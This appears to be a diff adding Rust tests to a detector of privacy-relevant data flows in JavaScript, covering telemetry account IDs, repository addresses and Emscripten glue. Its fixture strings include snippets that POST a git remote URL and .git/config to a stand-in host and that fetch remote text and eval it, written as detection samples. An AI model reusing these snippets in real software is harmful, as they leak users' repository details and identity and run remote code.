@@ -2612,3 +2612,118 @@ fn a_send_before_the_opt_out_check_is_marked() {
     assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
     assert!(!f.flows[0].sent_before_check, "{:#?}", f.flows);
 }
+
+#[test]
+fn value_under_an_account_attribute_key_is_an_account_id() {
+    // OpenTelemetry-instrumented CLIs put the signed-in account beside the e-mail.
+    let f = run("function attrs(cfg) {
+          const account = cfg.oauthAccount;
+          return { 'user.id': cfg.userID, 'user.account_uuid': account.accountUuid,
+                   [semconv.ATTR_USER_ID]: cfg.userID };
+        }");
+    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
+    assert_eq!(sinks.len(), 3, "{:#?}", f.flows);
+    assert!(f.flows.iter().all(
+        |fl| fl.kinds.contains(DataKind::AccountId) && fl.sink == SinkKind::TelemetryAttribute
+    ));
+    assert!(
+        sinks.contains(&"telemetry attribute user.account_uuid"),
+        "{sinks:?}"
+    );
+    assert!(f.sources.iter().any(|s| s.kind == DataKind::AccountId));
+    // Set one by one on the attributes object, as claude-code 1.0 does.
+    let f = run("function attrs(cfg) {
+          const a = cfg.oauthAccount?.accountUuid, e = cfg.oauthAccount?.emailAddress;
+          const I = { 'user.id': cfg.userID };
+          if (a) I['user.account_uuid'] = a;
+          if (e) I['user.email'] = e;
+          I['session.id'] = cfg.sessionId;
+          return I;
+        }");
+    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
+    assert_eq!(sinks.len(), 3, "{:#?}", f.flows);
+    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Email)));
+    // A constant id, or a `userId` of an ordinary object, is no one's account.
+    let neg = run("const a = { 'user.id': 'anonymous' };
+        const row = { userId: req.params.id, accountId: row.id };");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+}
+
+#[test]
+fn the_repository_address_sent_is_reported() {
+    let f = run(r#"const { execSync } = require("child_process");
+        const fs = require("fs");
+        const remote = execSync("git remote get-url origin").toString().trim();
+        const config = fs.readFileSync(process.cwd() + "/.git/config", "utf8");
+        fetch("https://t.example.top/r", { method: "POST", body: JSON.stringify({ remote }) });
+        fetch("https://t.example.top/c", { method: "POST", body: config });"#);
+    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .all(|fl| fl.kinds.contains(DataKind::RepositoryUrl)),
+        "{:#?}",
+        f.flows
+    );
+    // The repository's root or commit, or adding a remote, reads no address.
+    let neg = run(r#"const { execSync } = require("child_process");
+        const root = execSync("git rev-parse --show-toplevel").toString();
+        const head = execSync("git rev-parse HEAD").toString();
+        execSync("git remote add upstream https://example.com/x.git");
+        fetch("https://t.example.top/r", { method: "POST", body: JSON.stringify({ root, head }) });"#);
+    assert!(
+        neg.flows
+            .iter()
+            .all(|fl| !fl.kinds.contains(DataKind::RepositoryUrl)),
+        "{:#?}",
+        neg.flows
+    );
+}
+
+#[test]
+fn wasm_glue_running_its_own_strings_is_not_network_code() {
+    // Emscripten-style glue: typed-array views over the module's memory, strings written into
+    // and read out of that heap, the module's own `EM_ASM` snippets evaluated.
+    let glue = r#"var wasmMemory, HEAP8, HEAPU8, HEAP32;
+        function updateMemoryViews() { var b = wasmMemory.buffer; HEAP8 = new Int8Array(b); HEAPU8 = new Uint8Array(b); HEAP32 = new Int32Array(b); }
+        function UTF8ToString(ptr) { var end = ptr; while (HEAPU8[end]) ++end; return new TextDecoder().decode(HEAPU8.subarray(ptr, end)); }
+        function stringToUTF8(str, ptr) { for (var i = 0; i < str.length; i++) HEAPU8[ptr + i] = str.charCodeAt(i); HEAPU8[ptr + str.length] = 0; }
+        function _tzset_js(p) { stringToUTF8(Intl.DateTimeFormat().resolvedOptions().timeZone, p); }
+        function _emscripten_run_script(ptr) { eval(UTF8ToString(ptr)); }
+        function preload(path, at) { return fetch(path).then(r => r.arrayBuffer()).then(b => { HEAP8.set(new Int8Array(b), at); }); }
+        function openUrl(ptr) { return fetch("https://cdn.example.org/" + UTF8ToString(ptr)); }
+        fetch("app.wasm").then(r => r.arrayBuffer()).then(bytes => WebAssembly.instantiate(bytes, {})).then(out => { wasmMemory = out.instance.exports.memory; updateMemoryViews(); });"#;
+    let f = run(glue);
+    assert!(
+        f.dynamic_code.iter().all(|d| !d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
+    assert!(
+        f.flows
+            .iter()
+            .all(|fl| !fl.kinds.contains(DataKind::TimeZone)),
+        "{:#?}",
+        f.flows
+    );
+    // Network text run as code is still reported, and so is a typed array filled with
+    // identity that is not a view of a heap.
+    let f = run(
+        r#"fetch("https://x.example.top/p").then(r => r.text()).then(t => eval(t));
+        const buf = new Uint8Array(64); const h = require("os").hostname();
+        for (let i = 0; i < h.length; i++) buf[i] = h.charCodeAt(i);
+        fetch("https://x.example.top/u", { method: "POST", body: buf });"#,
+    );
+    assert!(
+        f.dynamic_code.iter().any(|d| d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
+}
